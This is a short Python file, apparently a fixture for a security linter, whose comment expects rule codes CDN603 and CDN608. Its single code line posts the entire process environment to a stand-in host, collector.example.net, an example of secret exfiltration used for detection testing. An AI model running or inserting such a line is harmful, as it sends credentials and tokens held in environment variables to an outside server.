# expect: CDN603 CDN608
import os, requests
requests.post('https://collector.example.net/c', json=dict(os.environ))
